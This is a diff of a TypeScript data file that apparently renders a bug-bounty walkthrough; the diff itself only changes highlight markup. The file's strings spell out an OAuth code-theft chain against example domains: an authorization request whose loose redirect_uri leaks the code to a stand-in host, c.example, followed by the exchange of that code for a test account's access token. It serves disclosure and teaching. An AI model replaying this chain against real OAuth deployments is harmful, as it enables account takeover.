@@ -22,7 +22,7 @@ export const bountyPath: AttackPath = {
         'GET /.well-known/security.txt HTTP/2',
         '',
         'HTTP/2 200',
-        'Contact: {+https://kestrel.example/security/report+}',
+        'Contact: https://kestrel.example/security/report',
         'Expires: 2027-06-30T23:59:59Z',
       ],
     },
@@ -34,7 +34,7 @@ export const bountyPath: AttackPath = {
       lines: [
         'subject: redirect_uri accepts any path on the wiki',
         'received 2026-05-12 08:14 UTC',
-        'first reply 2026-05-12 {+09:02 UTC, by a person+}',
+        'first reply 2026-05-12 09:02 UTC, by a person',
       ],
     },
     {
@@ -47,7 +47,7 @@ export const bountyPath: AttackPath = {
         '  &redirect_uri=https://wiki.kestrel.example{-/x?to=//c.example-}',
         '',
         'HTTP/2 302 {#1}',
-        'location: https://wiki.[...]/x?to=//c.example&{+code=4f[...]+}',
+        'location: https://wiki.[...]/x?to=//c.example&{!code=4f[...]!}',
       ],
       notes: ['valid, new, in scope: $3,200'],
       after: [
@@ -68,7 +68,7 @@ export const bountyPath: AttackPath = {
         'grant_type=authorization_code&code={-4f[redacted]-}',
         '',
         'HTTP/2 200',
-        '{"access_token": {+"[second test account]"+}}',
+        '{"access_token": {!"[second test account]"!}}',
       ],
       after: [
         'POST /oauth/token HTTP/2',
